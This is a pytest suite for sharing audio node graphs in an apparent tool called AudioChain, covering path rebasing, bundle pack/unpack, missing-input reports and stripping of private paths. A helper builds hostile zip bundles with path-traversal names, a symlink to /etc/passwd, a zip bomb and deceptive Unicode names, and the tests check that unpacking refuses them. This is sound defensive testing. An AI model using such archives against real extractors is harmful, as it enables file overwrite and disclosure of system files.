"""Sharing graphs: relative paths, bundles (pack/unpack, hostile archives), what is missing on the
receiver's side, and old graph files that must load forever."""
import json
import os
import shutil
import zipfile
from pathlib import Path

import numpy as np
import pytest
import soundfile as sf

from nodeflow import FileFormatError, Graph, NodeflowError, load, save
from nodeflow.bundle import pack, unpack
from nodeflow.cli import main

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "graphs"


def make_project(root: Path) -> Path:
    (root / "takes").mkdir(parents=True)
    sr = 22050
    t = np.arange(sr) / sr
    sf.write(root / "takes" / "vox3.wav", 0.2 * np.sin(2 * np.pi * 220 * t), sr, subtype="PCM_24")
    sf.write(root / "takes" / "loop.flac", 0.1 * np.sin(2 * np.pi * 110 * t), sr, subtype="PCM_16")
    g = Graph()
    g.path = root / "song.msgpack"
    g.add("io.load", id="vox", path="takes/vox3.wav")
    g.add("io.load", id="loop", path=str(root / "takes" / "loop.flac"))   # absolute on purpose
    g.add("dsp.mix", id="mix")
    g.add("io.export", id="out", path="mix.wav")
    g.connect("vox", "mix.a")
    g.connect("loop", "mix.b")
    g.connect("mix", "out")
    return save(g, g.path)


def test_graph_moved_to_another_folder_keeps_working(tmp_path):
    src = make_project(tmp_path / "ana")
    shutil.copytree(tmp_path / "ana", tmp_path / "ben")
    g = load(tmp_path / "ben" / "song.msgpack")
    assert g.nodes["vox"].params["path"] == "takes/vox3.wav"
    assert g.nodes["loop"].params["path"] == "takes/loop.flac"    # stored relative although given absolute
    shutil.rmtree(tmp_path / "ana")
    assert g.problems() == []
    assert main(["run", str(tmp_path / "ben" / "song.msgpack"), "-o", str(tmp_path / "o"), "-q"]) == 0
    del src


def test_save_as_elsewhere_rebases_paths(tmp_path):
    make_project(tmp_path / "ana")
    g = load(tmp_path / "ana" / "song.msgpack")
    save(g, tmp_path / "ana" / "versions" / "v2.msgpack")
    assert g.nodes["vox"].params["path"] == "../takes/vox3.wav"
    assert load(tmp_path / "ana" / "versions" / "v2.msgpack").problems() == []
    far = tmp_path / "x" / "y" / "z" / "w" / "v3.msgpack"
    save(g, far)
    # that far, the file names the input by its name (the way there spells this machine's folders: QA79 D2),
    # and this machine remembers where it is (nodeflow.places)
    assert b"../" not in far.read_bytes() and b"vox3.wav" in far.read_bytes()
    assert load(far).nodes["vox"].params["path"] == str(tmp_path / "ana" / "takes" / "vox3.wav")
    assert load(far).problems() == [] and str(tmp_path).encode() not in far.read_bytes()


def test_missing_things_listed_at_once_with_sender_paths(tmp_path, capsys):
    make_project(tmp_path / "ana")
    shutil.copy(tmp_path / "ana" / "song.msgpack", tmp_path / "song.msgpack")
    import msgpack
    doc = msgpack.unpackb((tmp_path / "song.msgpack").read_bytes())
    doc["nodes"].append({"id": "verb", "type": "fxpack.reverb", "version": 1, "params": {}})
    doc["saved_by"]["node_packs"]["fxpack.reverb"] = "fxpack"
    doc["saved_by"]["packs"]["fxpack"] = "2.1"
    (tmp_path / "song.msgpack").write_bytes(msgpack.packb(doc))
    assert main(["validate", str(tmp_path / "song.msgpack")]) == 1
    text = capsys.readouterr().out
    assert "3 problem(s)" in text
    assert "input file path='takes/vox3.wav' not found" in text      # the sender's folder is not in the file
    assert str(tmp_path / "ana") not in text
    assert "node pack 'fxpack' 2.1, which is not installed here" in text
    assert main(["run", str(tmp_path / "song.msgpack"), "-q"]) == 1
    err = capsys.readouterr().err
    assert "3 problems" in err and "vox3.wav" in err and "loop.flac" in err


def test_newer_format_version_is_refused_clearly(tmp_path):
    import msgpack
    p = tmp_path / "future.msgpack"
    p.write_bytes(msgpack.packb({"format": "audiochain.graph", "version": 7, "nodes": []}))
    with pytest.raises(FileFormatError, match="newer AudioChain .*upgrade AudioChain"):
        load(p)


@pytest.mark.parametrize("name", sorted(p.name for p in FIXTURES.glob("*.msgpack")))
def test_every_released_format_version_loads_forever(name):
    g = load(FIXTURES / name)
    assert g.nodes and g.problems() == [] or all("not found" in p for p in g.problems())
    assert g.saved_by.get("audiochain")


def test_pack_unpack_roundtrip_bit_for_bit(tmp_path):
    src = make_project(tmp_path / "ana")
    bundle = tmp_path / "song.acbundle"
    assert main(["pack", str(src), "-o", str(bundle)]) == 0
    out = unpack(bundle, tmp_path / "ben")
    g2 = load(out)
    for nid, orig in (("vox", tmp_path / "ana" / "takes" / "vox3.wav"), ("loop", tmp_path / "ana" / "takes" / "loop.flac")):
        p = out.parent / g2.nodes[nid].params["path"]
        assert p.read_bytes() == orig.read_bytes()
    assert g2.problems() == []
    # running a bundle unpacks into a private temp folder, removed afterwards: nothing beside the bundle
    assert main(["run", str(bundle), "-o", str(tmp_path / "o"), "-q"]) == 0
    assert not (tmp_path / "song").exists() and (tmp_path / "o" / "mix.wav").is_file()
    # a bundle and the graph it unpacks are files to share: not private to the sender (umask 022 here)
    umask = os.umask(0)
    os.umask(umask)
    for f in (bundle, out, out.parent / "files" / "vox3.wav"):
        assert f.stat().st_mode & 0o777 == 0o666 & ~umask, f


def test_pack_of_an_input_this_user_cannot_read_says_to_make_it_readable(tmp_path, monkeypatch, capsys):
    """QA44 (as nobody, an input of mode 600): "reading secret.flac failed: permission denied; choose a
    folder you can write to", while the folder to write to was writable."""
    import errno
    import nodeflow.packing as packing
    src = make_project(tmp_path / "ana")
    vox = tmp_path / "ana" / "takes" / "vox3.wav"

    def refuse(path, *a, **k):          # as the kernel refuses a file of mode 600 to another user
        raise PermissionError(errno.EACCES, "Permission denied", str(path))
    monkeypatch.setattr(packing, "_admit", refuse)
    assert main(["pack", str(src), "-o", str(tmp_path / "song.acbundle")]) == 1
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "permission denied; make it readable (chmod a+r) or ask its owner" in err, err
    assert "write to" not in err and str(vox) in err and not (tmp_path / "song.acbundle").exists()


def test_pack_carries_folders_such_as_adapters(tmp_path):
    from typing import Annotated

    from nodeflow import Context, FilePath, Registry, node

    @node("share.adapted")
    def adapted(*, adapter: Annotated[str, FilePath(mode="read")] = "", ctx: Context = None) -> str:
        return (ctx.resolve_input(adapter) / "adapter_config.json").read_text()

    reg = Registry()
    reg.add(adapted)
    adapter = tmp_path / "ana" / "adapters" / "mine"
    adapter.mkdir(parents=True)
    (adapter / "adapter_config.json").write_text('{"r": 8}')
    weights = bytes(range(256)) * 40   # a well-formed safetensors file: pack checks the header
    header = json.dumps({"x.lora_A.weight": {"dtype": "F32", "shape": [2560], "data_offsets": [0, len(weights)]}})
    (adapter / "adapter_model.safetensors").write_bytes(len(header).to_bytes(8, "little") + header.encode() + weights)
    (adapter / "notes.txt").write_text("not needed to run: left out")
    (adapter / "checkpoints" / "step-0000015").mkdir(parents=True)       # a fine-tune's training state: left out
    shutil.copy(adapter / "adapter_model.safetensors", adapter / "checkpoints" / "step-0000015" / "state.safetensors")
    g = Graph(reg)
    g.path = tmp_path / "ana" / "g.msgpack"
    g.add("share.adapted", id="a", adapter="adapters/mine")
    save(g, g.path)
    pack(g, tmp_path / "g.acbundle")
    out = unpack(tmp_path / "g.acbundle", tmp_path / "ben")
    g2 = load(out, reg)
    got = out.parent / g2.nodes["a"].params["adapter"]
    assert (got / "adapter_model.safetensors").read_bytes() == (adapter / "adapter_model.safetensors").read_bytes()
    assert sorted(p.name for p in got.iterdir()) == ["adapter_config.json", "adapter_model.safetensors"]


def test_unpack_never_overwrites_receivers_files(tmp_path):
    src = make_project(tmp_path / "ana")
    bundle = pack(load(src), tmp_path / "b.acbundle")
    target = tmp_path / "ben"
    (target / "files").mkdir(parents=True)
    mine = target / "files" / "vox3.wav"
    mine.write_bytes(b"the receiver's own take")
    out = unpack(bundle, target)
    assert mine.read_bytes() == b"the receiver's own take"
    g = load(out)
    assert g.nodes["vox"].params["path"] == "files/vox3 (2).wav"
    assert (target / "files" / "vox3 (2).wav").read_bytes() == (tmp_path / "ana" / "takes" / "vox3.wav").read_bytes()
    again = unpack(bundle, target)  # unpacking twice reuses identical files and the graph
    assert again == out and not (target / "files" / "vox3 (3).wav").exists()


def test_unpack_renames_a_file_in_the_saved_sweep_too(tmp_path):
    """QA53: a clashing take was unpacked as 'vox3 (2).wav' and the node pointed at it, but the saved sweep
    over load.path still named 'files/vox3.wav': its variant rendered the receiver's own older take."""
    src = make_project(tmp_path / "ana")
    g = load(src)
    g.sweep = {"mode": "grid", "axes": [{"param": "vox.path", "values": ["takes/vox3.wav", "takes/loop.flac"]}]}
    save(g, src)
    bundle = pack(load(src), tmp_path / "b.acbundle")
    target = tmp_path / "ben"
    (target / "files").mkdir(parents=True)
    (target / "files" / "vox3.wav").write_bytes(b"the receiver's own take")
    g2 = load(unpack(bundle, target))
    assert g2.nodes["vox"].params["path"] == "files/vox3 (2).wav"
    assert g2.sweep["axes"][0]["values"] == ["files/vox3 (2).wav", "files/loop.flac"]


def test_pack_refuses_past_size_limit(tmp_path):
    src = make_project(tmp_path / "ana")
    with pytest.raises(NodeflowError, match=r"add up to [\d.]+ KiB, over the 1000 bytes limit"):
        pack(load(src), tmp_path / "b.acbundle", max_bytes=1000)
    assert not (tmp_path / "b.acbundle").exists()


def hostile(tmp_path, members: dict[str, bytes], manifest: dict | None = None, tweak=None) -> Path:
    import hashlib
    p = tmp_path / "evil.acbundle"
    g = Graph()
    g.add("io.load", id="l", path="files/x.wav")
    from nodeflow.fileformat import dumps
    members = {"graph.msgpack": dumps(g), **members}
    if manifest is None:
        manifest = {"format": "audiochain.bundle", "version": 1,
                    "members": {k: {"sha256": hashlib.sha256(v).hexdigest(), "size": len(v)} for k, v in members.items()}}
    with zipfile.ZipFile(p, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("bundle.json", json.dumps(manifest))
        for k, v in members.items():
            info = zipfile.ZipInfo(k)
            if tweak:
                tweak(info)
            z.writestr(info, v, compress_type=zipfile.ZIP_DEFLATED)
    return p


@pytest.mark.parametrize("members, tweak, message", [
    ({"../escape.wav": b"x"}, None, "refusing member '../escape.wav'"),
    ({"files/../../escape.wav": b"x"}, None, "refusing member"),
    ({"/etc/evil": b"x"}, None, "refusing member '/etc/evil'"),
    ({"files/link.wav": b"/etc/passwd"}, lambda i: setattr(i, "external_attr", (0o120777 << 16)), "links and folders"),
    ({"files/bomb.wav": b"\0" * 5_000_000}, None, "expands"),
    ({"files/song\u202egpj.wav": b"x"}, None, "refusing member"),          # a bidi override hides the extension
    ({"files/Jo\u0301ga.wav": b"x"}, None, "refusing member"),             # decomposed: AudioChain packs NFC
    ({"files/a\x07.wav": b"x"}, None, "refusing member"),
])
def test_hostile_bundles_refused_and_nothing_written_outside(tmp_path, members, tweak, message):
    p = hostile(tmp_path, members, tweak=tweak)
    target = tmp_path / "t"
    before = sorted(x.name for x in tmp_path.iterdir())
    with pytest.raises(FileFormatError, match=message):
        unpack(p, target)
    assert sorted(x.name for x in tmp_path.iterdir()) == before
    assert not (tmp_path / "escape.wav").exists()


def test_corrupt_truncated_and_lying_bundles(tmp_path):
    good = hostile(tmp_path, {"files/x.wav": b"RIFF" + b"\1" * 100})
    data = good.read_bytes()
    trunc = tmp_path / "trunc.acbundle"
    trunc.write_bytes(data[: len(data) // 2])
    with pytest.raises(FileFormatError):
        unpack(trunc, tmp_path / "t1")
    lying = hostile(tmp_path, {"files/x.wav": b"abc"}, manifest={"format": "audiochain.bundle", "version": 1, "members": {
        "graph.msgpack": {"sha256": "0" * 64, "size": 1}, "files/x.wav": {"sha256": "0" * 64, "size": 3}}})
    with pytest.raises(FileFormatError, match="malformed or its size"):
        unpack(lying, tmp_path / "t2")
    import hashlib
    from nodeflow.fileformat import dumps
    g = Graph()
    gb = dumps(g)
    badhash = hostile(tmp_path, {"files/x.wav": b"abc"}, manifest={"format": "audiochain.bundle", "version": 1, "members": {
        "graph.msgpack": {"sha256": hashlib.sha256(gb).hexdigest(), "size": len(gb)},
        "files/x.wav": {"sha256": "0" * 64, "size": 3}}})
    with pytest.raises(FileFormatError):
        unpack(badhash, tmp_path / "t3")
    assert not any((tmp_path / "t3").rglob("x.wav"))
    with pytest.raises(FileFormatError, match="not a valid bundle"):
        unpack(_write(tmp_path / "j.acbundle", b"PK\x03\x04junk"), tmp_path / "t4")
    future = hostile(tmp_path, {}, manifest={"format": "audiochain.bundle", "version": 9, "members": {}})
    with pytest.raises(FileFormatError, match="newer"):
        unpack(future, tmp_path / "t5")


def _write(p: Path, data: bytes) -> Path:
    p.write_bytes(data)
    return p


# ---------------------------------------------------------------------------------------- audit additions
def test_missing_file_checkpoint_and_pack_are_listed_together(tmp_path, capsys, monkeypatch):
    monkeypatch.setenv("HF_HUB_OFFLINE", "1")
    monkeypatch.setenv("HF_HOME", str(tmp_path / "hf"))
    import msgpack
    make_project(tmp_path / "ana")
    g = load(tmp_path / "ana" / "song.msgpack")
    g.add("models.musicgen", id="gen", checkpoint="ana/my-finetune-v3")
    g.add("dsp.mix", id="mix2")
    g.connect("gen", "mix2.a")
    g.connect("mix", "mix2.b")
    g.disconnect("out.audio")
    g.connect("mix2", "out")
    save(g, tmp_path / "ana" / "song.msgpack")
    doc = msgpack.unpackb((tmp_path / "ana" / "song.msgpack").read_bytes())
    doc["nodes"].append({"id": "verb", "type": "fxpack.reverb", "version": 1, "params": {}})
    doc["saved_by"]["node_packs"]["fxpack.reverb"] = "fxpack"
    doc["saved_by"]["packs"]["fxpack"] = "2.1"
    (tmp_path / "ben").mkdir()
    received = tmp_path / "ben" / "song.msgpack"
    received.write_bytes(msgpack.packb(doc))           # the receiver got the graph file only
    assert main(["validate", str(received)]) == 1
    text = capsys.readouterr().out
    assert text.startswith(f"{received}: 4 problem(s):")
    assert "input file path='takes/vox3.wav' not found" in text      # the sender's folder is not in the file
    assert str(tmp_path / "ana") not in text
    assert "input file path='takes/loop.flac' not found" in text
    assert "audiochain models pull ana/my-finetune-v3" in text
    assert "node pack 'fxpack' 2.1, which is not installed here" in text
    assert main(["run", str(received), "-o", str(tmp_path / "o")]) == 1
    err = capsys.readouterr().err
    assert err.startswith(f"error: {received}: 4 problems:") or "4 problems" in err.splitlines()[0]
    assert "Traceback" not in err and not (tmp_path / "o").exists()


def test_graph_file_records_audiochain_and_pack_versions(tmp_path):
    from nodeflow import Audio, Registry, __version__, node
    from nodeflow.registry import default_registry

    @node("fxpack.reverb")
    def reverb(audio: Audio) -> Audio:
        """A plug-in node."""
        return audio

    reg = Registry()
    for spec in default_registry():
        reg.add(spec)
    reg.load_pack("fxpack", lambda r: r.add(reverb), "2.1")
    g = Graph(reg)
    g.add("io.load", id="l", path="x.wav")
    g.add("fxpack.reverb", id="verb")
    g.connect("l", "verb")
    doc = __import__("msgpack").unpackb(save(g, tmp_path / "g.msgpack").read_bytes())
    assert doc["saved_by"]["audiochain"] == __version__
    assert doc["saved_by"]["packs"]["fxpack"] == "2.1" and doc["saved_by"]["node_packs"]["fxpack.reverb"] == "fxpack"
    assert load(tmp_path / "g.msgpack", reg).saved_by["packs"]["fxpack"] == "2.1"


def test_pack_and_unpack_from_the_cli(tmp_path, capsys):
    src = make_project(tmp_path / "ana")
    bundle = tmp_path / "song.acbundle"
    assert main(["pack", str(src), "-o", str(bundle)]) == 0
    assert capsys.readouterr().out.startswith(f"wrote {bundle}")
    assert main(["pack", str(src), "-o", str(bundle)]) == 1
    assert capsys.readouterr().err.strip() == f"error: {bundle} exists; pass --force to replace it"
    assert main(["pack", str(src), "-o", str(tmp_path / "small.acbundle"), "--max-mb", "0.01"]) == 1
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and "over the 10.2 KiB limit" in err[0] and not (tmp_path / "small.acbundle").exists()
    assert main(["unpack", str(bundle), "-o", str(tmp_path / "ben")]) == 0
    lines = capsys.readouterr().out.strip().splitlines()   # then what it wrote, one line each
    assert lines[0] == f"unpacked to {tmp_path / 'ben'}; graph: {tmp_path / 'ben' / 'graph.msgpack'}"
    assert sorted(lines[1:]) == [f"  wrote {tmp_path / 'ben' / n}" for n in ("files/loop.flac", "files/vox3.wav",
                                                                             "graph.msgpack")]
    assert load(tmp_path / "ben" / "graph.msgpack").problems() == []
    evil = hostile(tmp_path, {"../escape.wav": b"x"})
    assert main(["unpack", str(evil), "-o", str(tmp_path / "t")]) == 1
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and err[0].startswith("error: ") and "refusing member '../escape.wav'" in err[0]
    for command in ("run", "validate", "show"):          # opening a bad bundle: the same one-line refusal
        assert main([command, str(evil)]) == 1
        err = capsys.readouterr().err.strip().splitlines()
        assert len(err) == 1 and "refusing member '../escape.wav'" in err[0]
    assert not (tmp_path / "escape.wav").exists()


def test_opening_a_bundle_unpacks_beside_it_once(tmp_path):
    from nodeflow.editor.files import open_graph
    src = make_project(tmp_path / "ana")
    bundle = pack(load(src), tmp_path / "share" / "song.acbundle")
    inspected = load(bundle)     # loading inspects in place (validate, show): nothing is written
    assert inspected.path is None and inspected.nodes["vox"].params["path"] == "files/vox3.wav"
    assert sorted(p.name for p in (tmp_path / "share").iterdir()) == ["song.acbundle"]
    g, _ = open_graph(bundle)    # opening it to edit unpacks it beside it, once
    assert g.path == tmp_path / "share" / "song" / "graph.msgpack" and g.problems() == []
    again, _ = open_graph(bundle)
    assert again.path == g.path and sorted(p.name for p in (tmp_path / "share" / "song").iterdir()) == [
        "files", "graph.msgpack"]


@pytest.mark.parametrize("limit, members, tweak, message", [
    ("MAX_BUNDLE_BYTES", {"files/a.wav": b"\1" * 3000}, None, "members add up to"),
    ("MAX_MEMBERS", {f"files/{i}.wav": b"x" for i in range(5)}, None, "members; bundles are limited to"),
    (None, {"files/a.wav": b"x"}, "encrypt", "encrypted member"),
])
def test_oversized_crowded_and_encrypted_bundles_are_refused(tmp_path, monkeypatch, limit, members, tweak, message):
    import nodeflow.bundle as bundle_mod
    if limit:
        monkeypatch.setattr(bundle_mod, limit, 2000 if limit == "MAX_BUNDLE_BYTES" else 4)
    p = hostile(tmp_path, members)
    if tweak == "encrypt":   # set the "encrypted" flag bit in every central directory entry
        data = bytearray(p.read_bytes())
        at = data.find(b"PK\x01\x02")
        while at != -1:
            data[at + 8] |= 0x1
            at = data.find(b"PK\x01\x02", at + 4)
        p.write_bytes(bytes(data))
    with pytest.raises(FileFormatError, match=message):
        unpack(p, tmp_path / "t")
    assert not (tmp_path / "t").exists() or not any((tmp_path / "t").rglob("*.wav"))


def test_unlisted_member_is_refused(tmp_path):
    import hashlib
    from nodeflow.fileformat import dumps
    gb = dumps(Graph())
    p = hostile(tmp_path, {"files/x.wav": b"abc", "files/extra.wav": b"def"}, manifest={
        "format": "audiochain.bundle", "version": 1, "members": {
            "graph.msgpack": {"sha256": hashlib.sha256(gb).hexdigest(), "size": len(gb)},
            "files/x.wav": {"sha256": hashlib.sha256(b"abc").hexdigest(), "size": 3}}})
    with pytest.raises(FileFormatError, match="does not list exactly the members present"):
        unpack(p, tmp_path / "t")


def test_unpack_does_not_follow_a_link_out_of_the_target(tmp_path):
    src = make_project(tmp_path / "ana")
    bundle = pack(load(src), tmp_path / "b.acbundle")
    outside = tmp_path / "outside"
    outside.mkdir()
    target = tmp_path / "ben"
    target.mkdir()
    (target / "files").symlink_to(outside, target_is_directory=True)
    with pytest.raises(FileFormatError, match="leads outside"):
        unpack(bundle, target)
    assert list(outside.iterdir()) == []


def test_a_copy_of_a_received_graph_keeps_what_the_sender_had(tmp_path):
    """The editor runs a copy of the graph: its problems are the same.  Files from older versions named
    the sender's absolute paths in saved_by.inputs; they still show in the messages (new files carry none)."""
    import msgpack
    make_project(tmp_path / "ana")
    doc = msgpack.unpackb((tmp_path / "ana" / "song.msgpack").read_bytes())
    assert doc["saved_by"]["inputs"] == {}
    sender = "/home/ana/takes/vox3.wav"
    doc["saved_by"]["inputs"] = {"vox.path": sender}
    (tmp_path / "song.msgpack").write_bytes(msgpack.packb(doc))
    g = load(tmp_path / "song.msgpack")
    assert any(sender in p for p in g.problems())
    assert g.copy().problems() == g.problems()


def test_names_in_any_script_travel_in_a_bundle(tmp_path):
    """QA: "Jóga.flac" was packed as "J_ga.flac" and every name in another script as underscores.  Letters,
    digits and marks of any script are kept (a Mac's decomposed names as composed), with the punctuation
    every file system takes; others become "_", and a long name is cut to fit any file system."""
    import unicodedata
    root = tmp_path / "ana"
    root.mkdir()
    names = ["Jóga – take 1?.flac", "日本の歌.wav", "हिंदी गीत.wav", "(live) Ke$ha.wav", "Jo\u0301ga.wav",
             "長" * 80 + ".wav"]
    expected = ["Jóga _ take 1.flac", "日本の歌.wav", "हिंदी गीत.wav", "(live) Ke$ha.wav", "Jóga.wav", None]
    g = Graph()
    g.path = root / "song.msgpack"
    sr = 8000
    for i, name in enumerate(names):
        sf.write(root / name, 0.1 * np.sin(2 * np.pi * 220 * np.arange(sr) / sr) * (i + 1), sr,
                 format="FLAC" if name.endswith(".flac") else "WAV")
        g.add("io.load", id=f"l{i}", path=name)
        g.add("io.export", id=f"e{i}", path=f"o{i}.wav")
        g.connect(f"l{i}", f"e{i}")
    save(g, g.path)
    bundle = tmp_path / "song.acbundle"
    assert main(["pack", str(g.path), "-o", str(bundle)]) == 0
    out = unpack(bundle, tmp_path / "ben")
    got = load(out)
    members = [got.nodes[f"l{i}"].params["path"] for i in range(len(names))]
    assert members[:5] == [f"files/{n}" for n in expected[:5]]
    assert members[5].startswith("files/長") and members[5].endswith(".wav")
    assert len(members[5].split("/")[1].encode()) <= 200
    for i, member in enumerate(members):
        assert unicodedata.is_normalized("NFC", member)
        assert (out.parent / member).read_bytes() == (root / names[i]).read_bytes()
    assert got.problems() == []
    assert main(["run", str(bundle), "-o", str(tmp_path / "o"), "-q"]) == 0


def _checkpointed():
    """A registry of one node type with a model node's ``checkpoint`` parameter (and nothing to load)."""
    from nodeflow import Registry, node

    @node("test.checkpointed")
    def checkpointed(*, checkpoint: str = "org/model") -> str:
        """A model node's checkpoint parameter."""
        return checkpoint
    reg = Registry()
    reg.add(checkpointed)
    return reg


def test_a_local_checkpoint_path_is_rebased_like_an_input_in_saved_and_embedded_graphs(tmp_path, monkeypatch):
    """QA: the CLI embedded checkpoint='../ckpt/melody' (right from the graph's folder) in the file it
    rendered into out/, so the file's own graph did not run; extract copied the path unchanged."""
    import msgpack

    from nodeflow.fileformat import dumps

    reg = _checkpointed()
    (tmp_path / "ckpt" / "melody").mkdir(parents=True)
    (tmp_path / "graphs").mkdir()
    monkeypatch.chdir(tmp_path / "graphs")        # an unsaved graph's paths are relative to the current folder
    g = Graph(reg)
    g.add("test.checkpointed", id="gen", checkpoint="../ckpt/melody")
    g.add("test.checkpointed", id="hub", checkpoint="org/model")
    save(g, tmp_path / "graphs" / "g.msgpack")
    g = load(tmp_path / "graphs" / "g.msgpack", reg)
    (tmp_path / "out" / "take").mkdir(parents=True)
    doc = msgpack.unpackb(dumps(g, tmp_path / "out" / "take"))          # as an export beside out/take/x.wav embeds it
    params = {n["id"]: n["params"]["checkpoint"] for n in doc["nodes"]}
    assert params == {"gen": "../../ckpt/melody", "hub": "org/model"}
    (tmp_path / "elsewhere" / "deeper").mkdir(parents=True)
    save(g, tmp_path / "elsewhere" / "deeper" / "g2.msgpack")          # what extract does with a render's graph
    assert g.nodes["gen"].params["checkpoint"] == "../../ckpt/melody"   # in memory too: the same folder
    again = load(tmp_path / "elsewhere" / "deeper" / "g2.msgpack", reg)
    assert again.nodes["gen"].params["checkpoint"] == "../../ckpt/melody" and again.problems() == []


def test_a_bundle_finds_its_local_checkpoint_beside_it_from_any_folder(tmp_path, monkeypatch):
    """QA: a bundle naming '../ckpt/musicgen' (relative to the graph's folder; weights are never packed)
    ran only from the graph's folder: run looked under its private temp folder, then the current one,
    and the error named the temp folder."""
    from nodeflow import checkpoints
    from nodeflow.bundle import extracted

    reg = _checkpointed()
    (tmp_path / "ckpt" / "melody").mkdir(parents=True)
    (tmp_path / "proj").mkdir()
    (tmp_path / "share").mkdir()
    monkeypatch.chdir(tmp_path / "proj")
    g = Graph(reg)
    g.add("test.checkpointed", id="gen", checkpoint="../ckpt/melody")
    g.add("test.checkpointed", id="hub", checkpoint="org/model")
    save(g, tmp_path / "proj" / "g.msgpack")
    report: list[str] = []
    pack(load(tmp_path / "proj" / "g.msgpack", reg), tmp_path / "share" / "deep" / "song.acbundle", report=report)
    assert any("left out checkpoint" in line and "not model weights" in line for line in report), report
    said = next(line for line in report if "left out checkpoint" in line)     # (QA61 D8: "at ../../ckpt/melody
    assert said.startswith(f"left out checkpoint {tmp_path / 'ckpt' / 'melody'} (node 'gen')"), said   # beside
    assert said.endswith("finds it at ../../ckpt/melody, relative to the bundle's folder"), said      # the bundle")
    (tmp_path / "elsewhere").mkdir()
    monkeypatch.chdir(tmp_path / "elsewhere")
    with extracted(tmp_path / "share" / "deep" / "song.acbundle") as graph_file:
        got = load(graph_file, reg)
        assert got.nodes["hub"].params["checkpoint"] == "org/model"
        from nodeflow.graphpaths import local_checkpoints
        assert {k: v.resolve() for k, v in local_checkpoints(got).items()} == \
            {("gen", "checkpoint"): (tmp_path / "ckpt" / "melody").resolve()}
    (tmp_path / "far" / "a" / "b").mkdir(parents=True)      # '../../ckpt/melody' from there: far/ckpt/melody
    shutil.copy(tmp_path / "share" / "deep" / "song.acbundle", tmp_path / "far" / "a" / "b" / "song.acbundle")
    with extracted(tmp_path / "far" / "a" / "b" / "song.acbundle") as graph_file:
        got = load(graph_file, reg)
        with pytest.raises(checkpoints.CheckpointError, match=rf"no folder {tmp_path / 'far' / 'ckpt' / 'melody'} "
                                                               r"\(a bundle carries audio and adapters, not model"):
            checkpoints.resolve(got.nodes["gen"].params["checkpoint"], base_dir=graph_file.parent, download=False)


def test_a_checkpoint_folder_not_there_yet_is_saved_like_an_adapter_typed_the_same_way(tmp_path, monkeypatch):
    """QA: in an unsaved graph, checkpoint='../ckpt/live' and adapter='../adapters/live' (neither there yet)
    were saved against different folders: the adapter rebased from the current folder, the checkpoint kept
    as typed (then resolved against the graph's folder)."""
    (tmp_path / "work" / "g").mkdir(parents=True)
    monkeypatch.chdir(tmp_path / "work")
    g = Graph()
    g.add("models.musicgen", id="gen", checkpoint="../ckpt/live", adapter="../adapters/live")
    g.add("models.musicgen", id="hub", checkpoint="facebook/musicgen-small")
    save(g, tmp_path / "work" / "g" / "relpath.msgpack")
    again = load(tmp_path / "work" / "g" / "relpath.msgpack")
    p = again.nodes["gen"].params
    assert (p["checkpoint"], p["adapter"]) == ("../../ckpt/live", "../../adapters/live")
    assert again.nodes["hub"].params["checkpoint"] == "facebook/musicgen-small"


def test_validate_of_a_bundle_says_where_its_run_reads_a_checkpoint_beside_it(tmp_path, monkeypatch, capsys):
    """QA: from another folder, validate of a bundle said its local checkpoint was read from a wrong place
    (resolved against the current folder; the run looks beside the bundle)."""
    (tmp_path / "ckpt" / "mg").mkdir(parents=True)
    (tmp_path / "proj").mkdir()
    (tmp_path / "else" / "deeper").mkdir(parents=True)
    monkeypatch.chdir(tmp_path / "proj")
    g = Graph()
    g.add("models.musicgen", id="gen", checkpoint="../ckpt/mg", duration_s=1.0)
    save(g, tmp_path / "proj" / "g.msgpack")
    assert main(["pack", str(tmp_path / "proj" / "g.msgpack"), "-o", str(tmp_path / "proj" / "song.acbundle")]) == 0
    monkeypatch.chdir(tmp_path / "else" / "deeper")
    capsys.readouterr()
    main(["validate", str(tmp_path / "proj" / "song.acbundle")])
    out = capsys.readouterr().out
    assert f"reads outside its folder: gen.checkpoint -> {(tmp_path / 'ckpt' / 'mg').resolve()}" in out, out
    # show, too (QA88 D2: it looked from the current folder, and said the folder there was missing)
    assert main(["show", str(tmp_path / "proj" / "song.acbundle")]) == 0
    out = capsys.readouterr().out
    assert f"reads outside its folder: gen.checkpoint -> {(tmp_path / 'ckpt' / 'mg').resolve()}" in out, out
    assert "checkpoint='../ckpt/mg'" in out and "no folder" not in out and str(tmp_path / "else") not in out, out


def test_pack_carries_no_local_path_of_an_adapter_made_elsewhere(tmp_path):
    """QA53: a peft adapter's adapter_config.json (base_model_name_or_path) and its safetensors metadata
    went into the bundle as they were: the sender's home folder and user name, in a shared file."""
    from typing import Annotated

    from nodeflow import Context, FilePath, Registry, node
    from nodes.models.finetune.adapter import _header

    @node("share.adapted2")
    def adapted(*, adapter: Annotated[str, FilePath(mode="read")] = "", ctx: Context = None) -> str:
        return str(ctx.resolve_input(adapter))

    reg = Registry()
    reg.add(adapted)
    home = tmp_path / "home" / "alice"
    adapter = tmp_path / "ana" / "mine"
    adapter.mkdir(parents=True)
    (adapter / "adapter_config.json").write_text(json.dumps({
        "peft_type": "LORA", "r": 8, "base_model_name_or_path": str(home / "models" / "musicgen-small"),
        "target_modules": ["q_proj"]}))
    weights = bytes(range(256)) * 40
    meta = {"format": "pt", "trained_on": str(home / "Music" / "private-recordings"),
            "audiochain.lora": json.dumps({"base": {"checkpoint": str(home / "models" / "musicgen-small")}})}
    header = json.dumps({"__metadata__": meta,
                         "x.lora_A.weight": {"dtype": "F32", "shape": [2560], "data_offsets": [0, len(weights)]}})
    (adapter / "adapter_model.safetensors").write_bytes(len(header).to_bytes(8, "little") + header.encode() + weights)
    g = Graph(reg)
    g.path = tmp_path / "ana" / "g.msgpack"
    g.add("share.adapted2", id="a", adapter="mine")
    save(g, g.path)
    bundle = pack(g, tmp_path / "g.acbundle")
    assert b"alice" not in bundle.read_bytes() and str(tmp_path).encode() not in bundle.read_bytes()
    out = unpack(bundle, tmp_path / "ben")
    got = out.parent / load(out, reg).nodes["a"].params["adapter"]
    config = json.loads((got / "adapter_config.json").read_text())
    assert config["base_model_name_or_path"] == "musicgen-small" and config["r"] == 8
    shared_meta, names = _header(got / "adapter_model.safetensors")
    assert shared_meta["trained_on"] == "private-recordings" and names == ["x.lora_A.weight"]
    assert json.loads(shared_meta["audiochain.lora"]) == {"base": {"checkpoint": "musicgen-small"}}
